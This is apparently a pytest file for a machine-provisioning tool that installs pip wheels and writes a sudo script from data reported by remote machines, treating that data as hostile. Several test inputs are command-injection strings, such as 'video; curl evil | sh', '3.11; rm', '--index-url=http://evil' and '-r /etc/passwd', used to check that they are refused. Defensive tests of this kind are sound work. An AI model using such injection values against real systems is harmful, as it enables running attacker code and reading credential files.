"""What a machine says of its preparation is read as hostile input; wheels are chosen by their names; machines side by side."""

from __future__ import annotations

import copy
import shlex
import subprocess
import threading
import time
from pathlib import Path, PurePosixPath
from typing import Any

import pytest

from ai_nano.core import provisioned
from ai_nano.core.cancel import CancelToken
from ai_nano.core.errors import AiNanoError, BadInput, Cancelled, Detached, MachineError, WorkFailed
from ai_nano.core.events import Event, Log, Progress
from ai_nano.core.ports import Delivery, JobEnd
from ai_nano.core.provisioned import Group, Wants
from ai_nano.core.room.config import Config, NanoConfig, ServerConfig, nowhere
from ai_nano.steps import provision, wheels
from ai_nano.steps.provision import ProvisionOptions

WANTS = {"pip": False, "wheels": True, "groups": [{"lines": ["torch==2.13.0", "torchvision==0.28.*"], "deps": True}],
         "constraints": ["numpy==2.1.0"], "python": "3.11", "abi": "cp311", "machine": "x86_64", "glibc": [2, 36]}
RESULT = {"v": 1, "type": "result", "done": [{"code": "installed", "params": {"packages": ["torch"]}}], "needs": [],
          "wants": None, "dry_run": False, "python": "3.11.2", "environment": "/home/nano/ai_nano/venv",
          "packages": {"torch": "2.13.0"}}
NEEDS = [{"code": "groups", "params": {"groups": ["video", "gpio"], "unknown": ["gpio"]}},
         {"code": "udev", "params": {"brought": False}}, {"code": "udev", "params": {"brought": True}},
         {"code": "swap", "params": {"have_mb": 0}}, {"code": "power", "params": {"systemctl": "/bin/systemctl"}},
         {"code": "linger", "params": {}}, {"code": "weather", "params": {}}]


def test_what_was_done_is_told_in_words() -> None:
    read = provisioned.read(RESULT, "DL", "nano")
    assert read.done == ("Installed torch",) and read.text == "DL is prepared." and read.block == ""
    assert provisioned.read({**RESULT, "done": []}, "DL", "nano").text == "DL had all that it needs."


def test_the_block_for_root_is_a_script_of_our_own_words() -> None:
    read = provisioned.read({**RESULT, "needs": NEEDS}, "nano1", "it's nano; reboot")
    assert len(read.needs) == len(NEEDS) - 1, "one of a kind that this version does not know is passed over"
    subprocess.run(["sh", "-n"], input=read.block, text=True, check=True)
    words = [shlex.split(line) for line in read.block.splitlines() if not line.startswith("#")]
    assert ["sudo", "usermod", "--append", "--groups", "video,gpio", "it's nano; reboot"] in words
    assert all("sudo" in line for line in words)


@pytest.mark.parametrize(("kind", "params"), [
    ("groups", {"groups": ["video; curl evil | sh"], "unknown": []}), ("groups", {"groups": "video", "unknown": []}),
    ("power", {"systemctl": "/tmp/systemctl"}), ("swap", {"have_mb": "0"}), ("swap", []), ("udev", {"brought": 1}),
])
def test_a_need_that_makes_no_sense_is_refused(kind: str, params: Any) -> None:
    with pytest.raises(MachineError) as caught:
        provisioned.read({**RESULT, "needs": [{"code": kind, "params": params}]}, "nano1", "nano")
    assert caught.value.code == "machine.nonsense"


@pytest.mark.parametrize(("key", "value"), [
    ("python", "3.11; rm"), ("abi", "--index-url=http://evil"), ("machine", "../x"), ("glibc", [2]), ("glibc", [2, "36"]),
    ("groups", [{"lines": ["--index-url=http://evil"], "deps": True}]),
    ("groups", [{"lines": ["git+https://evil/x"], "deps": True}]),
    ("groups", [{"lines": ["./x"], "deps": True}]), ("groups", "all"), ("constraints", ["-r /etc/passwd"]), ("pip", "yes"),
])
def test_what_becomes_words_of_pip_here_is_looked_at(key: str, value: Any) -> None:
    wants = copy.deepcopy({**WANTS, key: value})
    with pytest.raises(MachineError) as caught:
        provisioned.read({**RESULT, "wants": wants}, "DL", "nano")
    assert caught.value.code == "machine.nonsense"


def wanted(**changes: Any) -> Wants:
    read = provisioned.read({**RESULT, "wants": {**WANTS, **changes}}, "DL", "nano").wants
    assert read is not None
    return read


@pytest.mark.parametrize(("name", "fits"), [
    ("numpy-2.1.0-cp311-cp311-manylinux_2_17_x86_64.manylinux2014_x86_64.whl", True),
    ("numpy-2.1.0-cp312-cp312-manylinux_2_17_x86_64.whl", False), ("numpy-2.1.0-cp311-cp311-macosx_11_0_arm64.whl", False),
    ("numpy-2.1.0-cp311-cp311-manylinux_2_17_aarch64.whl", False), ("six-1.16.0-py2.py3-none-any.whl", True),
    ("protobuf-7.0-cp310-abi3-manylinux2014_x86_64.whl", True), ("torch-2.13.0-1-cp311-cp311-linux_x86_64.whl", True),
    ("torch-2.13.0.tar.gz", False), ("x.whl", False),
])
def test_a_wheel_is_known_by_its_name(name: str, fits: bool) -> None:
    assert wheels.fits(name, wanted()) is fits


def test_a_folder_without_a_fitting_wheel_is_named(tmp_path: Path) -> None:
    (tmp_path / "numpy-2.1.0-cp312-cp312-win_amd64.whl").touch()
    with pytest.raises(BadInput) as caught:
        wheels.collect(wanted(), tmp_path, tmp_path / "cache", lambda event: None, CancelToken())
    assert caught.value.code == "provision.no_wheels_there"


def test_pip_is_asked_for_the_other_machine(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A folder of the cache is whole or is filled again; credentials of an index are not shown."""
    asked: list[list[str]] = []

    class Pip:
        returncode = 1

        def __init__(self, command: list[str], **_more: Any) -> None:
            asked.append(command)
            self.stdout = ["Looking in indexes: https://ada:geheim@mirror/simple\n", "ERROR: No matching distribution\n"]

        def __enter__(self) -> Pip:
            return self

        def __exit__(self, *_error: object) -> None: ...

        def kill(self) -> None: ...

    monkeypatch.setattr(wheels.subprocess, "Popen", Pip)
    for _ in range(2):
        with pytest.raises(WorkFailed) as caught:
            wheels.download([Group(("torch==2.13.0",), True)], wanted(), tmp_path, lambda event: None, CancelToken())
    assert caught.value.code == "provision.no_download" and "geheim" not in " ".join(caught.value.details)
    words = " ".join(asked[0])
    assert "--only-binary :all:" in words and "--python-version 3.11" in words and "--abi cp311" in words
    assert "--platform manylinux_2_36_x86_64" in words and "manylinux_2_37" not in words and "manylinux2014_x86_64" in words
    Pip.returncode = 0
    wheels.download([Group(("torch==2.13.0",), True)], wanted(), tmp_path, lambda event: None, CancelToken())
    before = len(asked)
    wheels.download([Group(("torch==2.13.0",), True)], wanted(), tmp_path, lambda event: None, CancelToken())
    assert len(asked) == before


# ---- several machines ------------------------------------------------------------------------------------------------


class Fake:
    """A machine whose program answers with `results`, one for each start."""

    def __init__(self, name: str, *results: Any, runs: tuple[dict[str, Any], ...] = (),
                 wait: threading.Barrier | None = None) -> None:
        self.name, self.results, self.runs, self.wait = name, list(results), runs, wait
        self.started: list[tuple[str, dict[str, Any]]] = []
        self.followed: list[str] = []
        self.sent: list[str] = []
        self.deleted: list[str] = []

    def jobs(self) -> tuple[dict[str, Any], ...]:
        return self.runs

    def attach(self, run: str) -> Any:
        self.followed.append(run)
        return Job(RESULT)

    def start(self, label: str, program: str, params: dict[str, Any]) -> Any:
        if self.wait is not None:
            self.wait.wait(20)  # only when all have begun does any go on
        self.started.append((program, params))
        result = self.results.pop(0)
        if isinstance(result, AiNanoError):
            raise result
        return Job(result)

    def upload(self, parcel: Any, progress: Any, cancel: CancelToken) -> Delivery:
        self.sent += [str(file.target) for file in parcel.files]
        assert all(file.target.parts[0] == "wheels" and isinstance(file.target, PurePosixPath) for file in parcel.files)
        return Delivery(parcel.model, len(parcel.files), len(parcel.files), path=f"/home/nano/ai_nano/models/{parcel.model}")

    def store(self, operation: str, *words: str) -> dict[str, Any]:
        self.deleted += words
        if not self.sent:
            raise WorkFailed("store.missing", machine=self.name, model=words[0])
        return {}


class Job:
    id = "20261122-provision"

    def __init__(self, result: Any) -> None:
        self.result = result

    def follow(self, on_event: Any, on_log: Any, cancel: CancelToken, on_contact: Any = None) -> JobEnd:
        return JobEnd("done", self.result)


def run(machines: dict[str, Fake], options: ProvisionOptions, tmp_path: Path,
        cancel: CancelToken | None = None) -> tuple[provision.Outcome, list[Event]]:
    told: list[Event] = []
    nanos = tuple(NanoConfig(name, "10.0.0.3", "nano") for name in machines if name != "DL")
    config = Config(ServerConfig("DL", "10.0.0.2", "nano"), nanos)
    return provision.provision(config, machines.__getitem__, tmp_path, options, told.append, cancel or CancelToken()), told


def test_a_download_is_stopped_while_pip_is_silent(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "pip").mkdir()
    (tmp_path / "pip" / "__init__.py").touch()
    (tmp_path / "pip" / "__main__.py").write_text("import time\nprint('Collecting torch', flush=True)\ntime.sleep(60)\n")
    monkeypatch.setenv("PYTHONPATH", str(tmp_path))
    monkeypatch.chdir(tmp_path)
    cancel, told = CancelToken(), list[Event]()

    def hear(event: Event) -> None:
        told.append(event)
        cancel.cancel()

    read = provisioned.read({**RESULT, "wants": WANTS}, "DL", "nano")
    assert read.wants is not None
    began = time.monotonic()
    with pytest.raises(Cancelled):
        wheels.collect(read.wants, None, tmp_path / "cache", hear, cancel)
    assert told and time.monotonic() - began < 30 and not list((tmp_path / "cache").rglob(".complete"))


def test_machines_are_prepared_side_by_side_and_one_that_fails_is_named(tmp_path: Path) -> None:
    all_begun = threading.Barrier(3)
    machines = {"DL": Fake("DL", RESULT, wait=all_begun), "nano1": Fake("nano1", RESULT, wait=all_begun),
                "nano2": Fake("nano2", MachineError("machine.unreachable", machine="nano2", host="x"), wait=all_begun)}
    outcome, told = run(machines, ProvisionOptions(), tmp_path)
    assert [one.machine for one in outcome.prepared] == ["DL", "nano1"]
    problem = outcome.problem
    assert problem is not None and problem.code == "provision.failed" and problem.exit_code == 3 and "nano2" in problem.what
    assert any(isinstance(event, Log) and event.code == "provision.machine_failed" for event in told)
    bars = [event for event in told if isinstance(event, Progress)]
    assert bars[-1].total == 3 and [bar.done for bar in bars] == sorted(bar.done for bar in bars)


def test_one_alone_fails_with_its_own_error(tmp_path: Path) -> None:
    machines = {"DL": Fake("DL", WorkFailed("provision.disk_full", machine="DL", path="/x"))}
    outcome, _ = run(machines, ProvisionOptions(("DL",)), tmp_path)
    assert outcome.problem is not None and outcome.problem.code == "provision.disk_full" and outcome.problem.exit_code == 1


def test_what_a_machine_cannot_get_is_brought_and_goes_again(tmp_path: Path) -> None:
    folder = tmp_path / "wheels"
    folder.mkdir()
    for name in ("numpy-2.1.0-py3-none-any.whl", "pip-25.0-py3-none-any.whl", "notes.txt"):
        (folder / name).touch()
    machine = Fake("DL", {**RESULT, "done": [], "wants": WANTS}, RESULT)
    outcome, _ = run({"DL": machine}, ProvisionOptions(("DL",), wheels=folder), tmp_path)
    assert outcome.problem is None
    assert sorted(machine.sent) == ["wheels/numpy-2.1.0-py3-none-any.whl", "wheels/pip-25.0-py3-none-any.whl"]
    first, second = (params for _, params in machine.started)
    assert first["wheels"] is None and not first["registry"] and second["wheels"].endswith("/wheels")
    assert machine.deleted == [second["wheels"].split("/")[-2]]


def test_a_machine_that_never_has_enough_is_broken(tmp_path: Path) -> None:
    folder = tmp_path / "wheels"
    folder.mkdir()
    (folder / "pip-25.0-py3-none-any.whl").touch()
    machine = Fake("DL", *[{**RESULT, "wants": WANTS}] * 9)
    outcome, _ = run({"DL": machine}, ProvisionOptions(("DL",), wheels=folder), tmp_path)
    assert outcome.problem is not None and outcome.problem.code == "machine.nonsense"


def test_one_that_is_being_prepared_is_followed_first(tmp_path: Path) -> None:
    other = {"id": "p7", "program": provision.SERVER_PROGRAM, "state": "running", "params": {}}
    machine = Fake("DL", {**RESULT, "done": []}, runs=(other, {**other, "id": "p6", "state": "done"}))
    outcome, told = run({"DL": machine}, ProvisionOptions(("DL",)), tmp_path)
    assert machine.followed == ["p7"] and outcome.prepared[0].done == ()
    assert any(isinstance(event, Log) and event.code == "provision.taken_up" for event in told)


@pytest.mark.parametrize("own", [True, False])
def test_who_stops_while_another_prepares_ends_only_his_own_work(own: bool, tmp_path: Path) -> None:
    """A run that goes on until the token that it is given is cancelled, or lets go."""
    given: list[tuple[bool, bool]] = []
    mine = CancelToken()

    class Endless(Job):
        def follow(self, on_event: Any, on_log: Any, cancel: CancelToken, on_contact: Any = None) -> JobEnd:
            mine.cancel()
            given.append((cancel.cancelled, cancel.detached))
            if cancel.detached:
                raise Detached()
            return JobEnd("cancelled")

    machine = Fake("DL", runs=({"id": "p7", "program": provision.SERVER_PROGRAM, "state": "running",
                                "params": {"owner": provision._owner() if own else "another"}},))
    machine.attach = lambda run: Endless(RESULT)  # type: ignore[method-assign]
    with pytest.raises(Cancelled):
        run({"DL": machine}, ProvisionOptions(("DL",)), tmp_path, mine)
    assert given == [(True, False) if own else (False, True)]


def test_a_name_that_the_room_has_not_is_refused(tmp_path: Path) -> None:
    with pytest.raises(BadInput) as caught:
        run({"DL": Fake("DL")}, ProvisionOptions(("DLL",)), tmp_path)
    assert caught.value.code == "provision.unknown"


def test_a_nano_with_jetson_inference_gets_no_packages(tmp_path: Path) -> None:
    machine = Fake("nano1", {**RESULT, "done": []})
    run({"nano1": machine, "DL": Fake("DL")}, ProvisionOptions(("nano1",)), tmp_path)
    ((program, params),) = machine.started
    assert program == provision.NANO_PROGRAM and params["requirements"] == [] and params["board"]["leds"] == "gpio"


def test_the_lines_that_travel_are_those_of_the_requirements_files(tmp_path: Path) -> None:
    machine = Fake("DL", RESULT)
    run({"DL": machine}, ProvisionOptions(("DL",)), tmp_path)
    lines = machine.started[0][1]["requirements"]
    assert "torch==2.13.0" in lines and all("#" not in line for line in lines)


def test_a_room_without_machines(tmp_path: Path) -> None:
    with pytest.raises(BadInput) as empty:
        provision.provision(nowhere(), {}.__getitem__, tmp_path, ProvisionOptions(), print, CancelToken())
    assert empty.value.code == "config.empty" and "config.json" in empty.value.what
